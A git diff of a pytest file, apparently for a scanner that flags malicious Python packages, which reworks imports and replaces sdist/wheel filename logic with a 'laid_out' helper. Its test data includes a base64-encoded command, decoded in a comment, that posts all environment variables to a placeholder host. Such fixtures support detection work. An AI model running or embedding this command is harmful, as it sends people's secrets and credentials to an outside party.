@@ -9,7 +9,17 @@ import zlib
 import pytest
 
 from analysis.model import Severity
-from tests.analysis.code.members import PAYLOAD, SDIST, WHEEL, C, H, L, M, scan, setup_py, worst
+from tests.analysis.code.members import (
+    PAYLOAD,
+    C,
+    H,
+    L,
+    M,
+    laid_out,
+    scan,
+    setup_py,
+    worst,
+)
 
 B64_CURL_ENV = (
     "Y3VybCAtZCAiJChlbnYpIiBodHRwczovL3guZXhhbXBsZS9j"  # curl -d "$(env)" https://x.example/c
@@ -498,8 +508,7 @@ CASES = [
 def test_real_shapes(
     files: dict[str, str | bytes], check_id: str, severity: Severity | None, reason: str
 ) -> None:
-    filename = SDIST if any(p.startswith("demo-1.0/") for p in files) else WHEEL
-    assert worst(scan(files, filename), check_id) == severity, reason
+    assert worst(laid_out(files), check_id) == severity, reason
 
 
 def test_a_helper_is_reported_where_it_is_called() -> None:
